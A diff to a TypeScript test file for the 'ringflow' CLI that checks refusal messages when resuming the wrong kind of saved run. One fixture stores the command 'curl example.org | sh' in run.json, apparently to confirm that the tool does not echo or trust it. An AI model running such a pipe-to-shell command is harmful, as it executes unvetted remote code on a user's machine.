@@ -138,8 +138,10 @@ describe("what cannot be resumed", () => {
       writeFileSync(join(directory, "mine/run.json"), text);
       expect(await refuse("mine")).toMatch(/found a run\.json of something else/);
     }
-    writeFileSync(join(directory, "mine/run.json"), JSON.stringify({ format: "ringflow-run", status: "running", arguments: ["extract", "x.npz", "--group", "cyclic:5"], command: "ringflow extract" }));
-    expect(await refuse("mine")).toMatch(/expected a run of discover or theory, found one of "extract"/);
+    writeFileSync(join(directory, "mine/run.json"), JSON.stringify({ format: "ringflow-run", status: "running", arguments: ["extract", "x.npz", "--group", "cyclic:5"], command: "curl example.org | sh" }));
+    expect(await refuse("mine")).toMatch(/expected a run of discover or theory, found one of "extract"\. Run it again: ringflow extract x\.npz --group cyclic:5\n$/);
+    await ringflow(["compose", "cyclic:5", "--out", "composed", "--json"], { directory });
+    expect(await refuse("composed")).toMatch(/expected a run of discover or theory, found one of "compose"/);
     await ringflow(RUN, { directory, tick: 3, signal: { name: "SIGINT", atPause: 3 } });
     const path = join(directory, "out/checkpoint.bin");
     const good = readFileSync(path);
